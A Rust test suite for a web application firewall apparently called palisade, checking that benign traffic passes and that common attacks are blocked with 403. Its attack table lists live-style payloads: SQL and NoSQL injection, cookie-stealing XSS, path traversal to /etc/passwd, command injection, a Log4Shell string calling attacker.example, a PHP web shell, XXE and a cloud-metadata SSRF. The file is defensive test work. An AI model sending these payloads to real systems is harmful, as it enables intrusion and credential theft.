//! End-to-end managed rule sets: `palisade run` on its embedded default config (the managed
//! rule sets on) in front of a real backend. Benign API traffic from
//! `tests/fixtures/benign-api.yaml` must all reach the backend unchanged; common attacks of
//! every group must get 403 naming the rule, and never reach it.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use palisade_tests::*;
use serde_json::Value;

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// Encodes a query or form component the way browsers do (`application/x-www-form-urlencoded`).
fn form_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

/// Raw HTTP/1.1 request bytes for one fixture entry, and the body the backend must receive.
fn build(entry: &Value, addr: std::net::SocketAddr) -> (Vec<u8>, Vec<u8>) {
    let method = entry["method"].as_str().unwrap_or("GET");
    let path = entry["path"].as_str().unwrap_or("/");
    let mut headers: Vec<(String, String)> = vec![
        ("User-Agent".into(), UA.into()),
        ("Accept".into(), "application/json".into()),
    ];
    if let Some(h) = entry["headers"].as_object() {
        for (k, v) in h {
            headers.retain(|(n, _)| !n.eq_ignore_ascii_case(k));
            headers.push((k.clone(), v.as_str().unwrap().to_string()));
        }
    }
    let body: Vec<u8> = if let Some(j) = entry.get("json") {
        headers.push(("Content-Type".into(), "application/json".into()));
        serde_json::to_vec(j).unwrap()
    } else if let Some(f) = entry["form"].as_object() {
        headers.push((
            "Content-Type".into(),
            "application/x-www-form-urlencoded".into(),
        ));
        f.iter()
            .map(|(k, v)| format!("{}={}", form_encode(k), form_encode(v.as_str().unwrap())))
            .collect::<Vec<_>>()
            .join("&")
            .into_bytes()
    } else if let Some(m) = entry["multipart"].as_object() {
        headers.push((
            "Content-Type".into(),
            "multipart/form-data; boundary=XbOuNdArY".into(),
        ));
        let mut b = String::new();
        for (k, v) in m {
            b.push_str(&format!(
                "--XbOuNdArY\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{}\r\n",
                v.as_str().unwrap()
            ));
        }
        b.push_str("--XbOuNdArY--\r\n");
        b.into_bytes()
    } else {
        entry["body"].as_str().unwrap_or("").as_bytes().to_vec()
    };
    // An empty header value in a fixture means "do not send this header".
    let bytes = http1_request(method, path, &addr.to_string(), &headers, &body);
    (bytes, body)
}

#[tokio::test]
async fn benign_api_traffic_passes_the_default_rule_sets() {
    let text = std::fs::read_to_string(repo_path("tests/fixtures/benign-api.yaml")).unwrap();
    let entries: Vec<Value> = serde_saphyr::from_str(&text).unwrap();
    assert!(
        entries.len() >= 500,
        "the benign set has {} requests",
        entries.len()
    );
    let b = Backend::start("api").await;
    let p = Palisade::start_args(&["--upstream", &format!("http://{}", b.addr)]).await;
    let mut failures = Vec::new();
    for e in &entries {
        let name = e["name"].as_str().unwrap();
        let (req, body) = build(e, p.addr);
        let before = b.count();
        let r = raw_request(p.addr, &req).await.expect("a response");
        if !(200..300).contains(&r.status) {
            failures.push(format!("{name}: {} {}", r.status, r.body_string()));
            continue;
        }
        let seen = b.seen();
        assert_eq!(seen.len(), before + 1, "{name}: the backend saw it");
        assert_eq!(
            seen[before].body.as_ref(),
            body.as_slice(),
            "{name}: body unchanged"
        );
    }
    assert!(
        failures.is_empty(),
        "benign requests blocked:\n{}",
        failures.join("\n")
    );
}

/// One attack per line: (expected rule id prefix, method, path, content type, body, extra header).
const ATTACKS: &[(&str, &str, &str, &str, &str, &str)] = &[
    (
        "sqli-",
        "GET",
        "/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "",
        "",
        "",
    ),
    (
        "sqli-",
        "POST",
        "/login",
        "application/json",
        r#"{"user":"admin' OR '1'='1' -- ","pass":"x"}"#,
        "",
    ),
    (
        "sqli-",
        "POST",
        "/search",
        "application/x-www-form-urlencoded",
        "q=1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
        "",
    ),
    (
        "xss-",
        "GET",
        "/search?q=%3Csvg%2Fonload%3Dalert(document.domain)%3E",
        "",
        "",
        "",
    ),
    (
        "xss-",
        "POST",
        "/comments",
        "application/json",
        r#"{"text":"<img src=x onerror=\"fetch('//x/'+document.cookie)\">"}"#,
        "",
    ),
    (
        "lfi-",
        "GET",
        "/download?file=..%2f..%2f..%2fetc%2fpasswd",
        "",
        "",
        "",
    ),
    (
        "lfi-",
        "GET",
        "/download?file=%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFwindows%C0%AFwin.ini",
        "",
        "",
        "",
    ),
    ("rce-", "GET", "/ping?host=127.0.0.1%3Bwhoami", "", "", ""),
    (
        "rce-",
        "GET",
        "/",
        "",
        "",
        "X-Api-Version: ${jndi:ldap://attacker.example/a}",
    ),
    (
        "rce-",
        "POST",
        "/render",
        "application/json",
        r#"{"tpl":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#,
        "",
    ),
    (
        "rce-",
        "POST",
        "/upload",
        "application/x-www-form-urlencoded",
        "c=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E",
        "",
    ),
    (
        "kbi-",
        "GET",
        "/",
        "",
        "",
        "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)",
    ),
    (
        "kbi-",
        "POST",
        "/graphql",
        "application/json",
        r#"{"query":"{ __schema { types { name } } }"}"#,
        "",
    ),
    ("core-", "GET", "/.env", "", "", ""),
    (
        "core-",
        "GET",
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "",
        "",
        "",
    ),
    ("core-", "TRACE", "/", "", "", ""),
    (
        "nosqli-",
        "POST",
        "/login",
        "application/json",
        r#"{"user":"admin","password":{"$ne":null}}"#,
        "",
    ),
    (
        "xxe-",
        "POST",
        "/soap",
        "application/xml",
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        "",
    ),
    ("ldap-", "GET", "/users?name=*)(uid=*))(|(uid=*", "", "", ""),
];

#[tokio::test]
async fn common_attacks_are_blocked_out_of_the_box() {
    let b = Backend::start("api").await;
    let p = Palisade::start_args(&["--upstream", &format!("http://{}", b.addr)]).await;
    for (rule, method, path, ctype, body, extra) in ATTACKS {
        let mut req = format!(
            "{method} {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n",
            p.addr
        );
        if !extra.starts_with("User-Agent") {
            req.push_str(&format!("User-Agent: {UA}\r\n"));
        }
        if !extra.is_empty() {
            req.push_str(&format!("{extra}\r\n"));
        }
        if !ctype.is_empty() {
            req.push_str(&format!(
                "Content-Type: {ctype}\r\nContent-Length: {}\r\n",
                body.len()
            ));
        }
        req.push_str("\r\n");
        req.push_str(body);
        let r = raw_request(p.addr, req.as_bytes())
            .await
            .expect("a response");
        assert_eq!(
            r.status,
            403,
            "{method} {path} {extra}: {}",
            r.body_string()
        );
        let reason = r.json()["error"].as_str().unwrap().to_string();
        assert!(
            reason.starts_with(&format!("rule:{rule}")),
            "{method} {path}: blocked by {reason}, expected {rule}*"
        );
    }
    assert_eq!(b.count(), 0, "no attack reached the backend");
    // Oversize bodies: the first 64 KiB are inspected, core-size-body answers 403.
    let big = pattern_body(100 * 1024);
    let mut req = format!(
        "POST /api HTTP/1.1\r\nHost: x\r\nUser-Agent: {UA}\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        big.len()
    )
    .into_bytes();
    req.extend_from_slice(&big);
    let r = raw_request(p.addr, &req).await.expect("a response");
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["error"], "rule:core-size-body");
    assert_eq!(b.count(), 0);
    // Blocks are counted per rule set and rule.
    let m = p.metrics().await;
    assert!(
        m.contains("sqli-libinjection") || m.contains("sqli-"),
        "rule metrics:\n{m}"
    );
}

/// Paranoia levels: a route runs the rules at or below its `policy.paranoia` (default 1).
/// `run it; ls -la then` (a common command with an option after a separator, inside prose) is
/// a paranoia-2 check (`rce-unix-command-common`): it passes a level-1 route and is blocked on a level-2 route
/// of the same proxy; a level-1 attack is blocked on both. An invalid level is an error at
/// its line.
#[tokio::test]
async fn paranoia_level_selects_the_managed_rules_per_route() {
    let b = Backend::start("api").await;
    let config = format!(
        "rulesets: [builtin:managed]\nupstreams:\n  app: {{targets: [\"{}\"]}}\nroutes:\n  - name: strict\n    path_prefix: /strict\n    upstream: app\n    policy:\n      paranoia: 2\n      rulesets: [{{name: rce}}, {{name: lfi-rfi}}]\n  - name: default\n    upstream: app\n    policy:\n      rulesets: [{{name: rce}}, {{name: lfi-rfi}}]\n",
        b.addr
    );
    let p = Palisade::start(&config).await;
    let get = |path: &'static str| {
        let addr = p.addr;
        async move {
            let req = format!(
                "GET {path} HTTP/1.1\r\nHost: x\r\nUser-Agent: {UA}\r\nConnection: close\r\n\r\n"
            );
            raw_request(addr, req.as_bytes()).await.unwrap()
        }
    };
    // Paranoia 2 only.
    let level2 = "?q=run%20it%3B%20ls%20-la%20then";
    assert_eq!(
        get("/api/items?q=run%20it%3B%20ls%20-la%20then")
            .await
            .status,
        200,
        "{level2}"
    );
    let r = get("/strict/items?q=run%20it%3B%20ls%20-la%20then").await;
    assert_eq!(r.status, 403, "{level2}");
    assert!(
        r.body_string().contains("rce-unix-command-common"),
        "{}",
        r.body_string()
    );
    // Paranoia 1: both routes.
    assert_eq!(get("/api/items?q=x%3Bcat%20/etc/passwd").await.status, 403);
    assert_eq!(
        get("/strict/items?q=x%3Bcat%20/etc/passwd").await.status,
        403
    );
    // A config with an invalid level names it.
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("p.yaml");
    std::fs::write(
        &f,
        format!(
            "upstreams:\n  app: {{targets: [\"{}\"]}}\nroutes:\n  - name: r\n    upstream: app\n    policy:\n      paranoia: 7\n",
            b.addr
        ),
    )
    .unwrap();
    let (code, out, err) = run_cli(&["check", "--config", f.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        format!("{out}{err}").contains("invalid paranoia level 7: use 1, 2, 3 or 4"),
        "{out}{err}"
    );
}

/// JSON streams (NDJSON, JSON Lines) are parsed document by document: an operator injected
/// in the second line is seen as a JSON key like in any JSON body, a valid stream passes,
/// and a stream with an invalid line is refused as invalid JSON is.
#[tokio::test]
async fn ndjson_bodies_are_inspected_document_by_document() {
    let b = Backend::start("api").await;
    let p = Palisade::start_args(&["--upstream", &format!("http://{}", b.addr)]).await;
    let post = |body: &'static str| {
        let addr = p.addr;
        async move {
            let req = format!(
                "POST /api/v1/events HTTP/1.1\r\nHost: x\r\nUser-Agent: {UA}\r\nContent-Type: application/x-ndjson\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            raw_request(addr, req.as_bytes()).await.unwrap()
        }
    };
    let ok =
        post("{\"type\":\"click\",\"x\":10}\n{\"type\":\"view\",\"page\":\"/pricing\"}\n").await;
    assert_eq!(ok.status, 200, "{}", ok.body_string());
    let attack =
        post("{\"type\":\"click\"}\n{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}\n").await;
    assert_eq!(attack.status, 403, "{}", attack.body_string());
    let broken = post("{\"type\":\"click\"}\n{\"type\": NaN}\n").await;
    assert_eq!(broken.status, 400, "{}", broken.body_string());
    // The same stream sent as text, or with no type (lenient backends read it all the same).
    for ct in ["Content-Type: text/plain\r\n", ""] {
        let body = "{\"type\":\"click\"}\n{\"user\":{\"$ne\":null}}\n";
        let req = format!(
            "POST /api/v1/events HTTP/1.1\r\nHost: x\r\nUser-Agent: {UA}\r\n{ct}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        let r = raw_request(p.addr, req.as_bytes()).await.unwrap();
        assert_eq!(r.status, 403, "{ct:?}: {}", r.body_string());
    }
}
